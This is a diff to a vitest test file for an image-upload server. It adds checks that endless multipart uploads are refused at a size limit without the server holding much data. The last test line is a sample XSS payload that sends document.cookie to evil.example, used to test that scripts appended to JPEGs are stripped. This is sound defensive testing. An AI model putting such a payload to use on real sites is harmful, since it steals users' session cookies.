@@ -6,6 +6,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { startTestApp, type TestApp } from '../../../../test/app/test-app.ts';
 import { aUser, type Person } from '../../../../test/people/people.ts';
 import { aPicture } from '../../../../test/people/pictures.ts';
+import { receiving } from './receiving.ts';
 
 const MB = 1_000_000;
 
@@ -30,6 +31,8 @@ interface Endless {
   readonly status: number | undefined;
   /** Bytes sent before the answer arrived. */
   readonly sent: number;
+  /** The most bytes of unfinished uploads that the server held at a time. */
+  readonly held: number;
   /** The increase of memory at its peak, in bytes. */
   readonly peak: number;
 }
@@ -38,7 +41,7 @@ interface Endless {
 function sendEndlessly(head: string): Promise<Endless> {
   const piece = Buffer.alloc(64 * 1024, 'a');
   const before = process.memoryUsage().arrayBuffers;
-  let peak = 0;
+  let [peak, held] = [0, 0];
   let sent = 0;
   return new Promise((resolve, reject) => {
     const upload = request(new URL(UPLOAD_PATH, app.url), {
@@ -49,12 +52,13 @@ function sendEndlessly(head: string): Promise<Endless> {
       while (sent < 100 * MB && !upload.destroyed) {
         sent += piece.length;
         peak = Math.max(peak, process.memoryUsage().arrayBuffers - before);
+        held = Math.max(held, receiving.state().bytes);
         if (!upload.write(piece)) return void upload.once('drain', pour);
       }
       upload.end('\r\n--edge--\r\n');
     }
     upload.on('response', (response) => {
-      resolve({ status: response.statusCode, sent, peak });
+      resolve({ status: response.statusCode, sent, held, peak });
       upload.destroy();
     });
     upload.on('error', reject);
@@ -65,19 +69,34 @@ function sendEndlessly(head: string): Promise<Endless> {
 
 const field = (name: string) => `--edge\r\ncontent-disposition: form-data; name="${name}"`;
 
-test.each([
+const endless: readonly [string, string][] = [
   ['file', `${field('file')}; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`],
   ['field', `${field('preset')}\r\n\r\n`],
   ['field after the file', `${field('file')}; filename="a.jpg"\r\n\r\na\r\n${field('x')}\r\n\r\n`],
   ['text before the first field', ''],
-])('an endless %s is refused at the limit, and the rest is not read', async (_, head) => {
+];
+
+test.each(endless)('an endless %s is refused at the limit, and the rest is not held', async (what, head) => {
   const known = await pictures();
-  const { status, sent, peak } = await sendEndlessly(head);
+  const { status, held } = await sendEndlessly(head);
   expect(status).toBe(413);
-  expect(sent).toBeLessThan(30 * MB); // the limit, and socket buffers
-  expect(peak).toBeLessThan(40 * MB);
+  if (what === 'file') expect(held).toBeGreaterThan(0); // the others may be refused before the first look
+  expect(held).toBeLessThan(20 * MB);
   expect(await pictures()).toBe(known);
+  await expect.poll(() => receiving.state().bytes).toBe(0);
 });
+
+test.each(endless)(
+  'an endless %s is not read beyond the limit, and costs little memory',
+  {
+    tags: ['timing'],
+  },
+  async (_, head) => {
+    const { sent, peak } = await sendEndlessly(head);
+    expect(sent).toBeLessThan(30 * MB); // the limit, and socket buffers
+    expect(peak).toBeLessThan(40 * MB);
+  },
+);
 
 test('a script appended to a JPEG is removed', async () => {
   const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
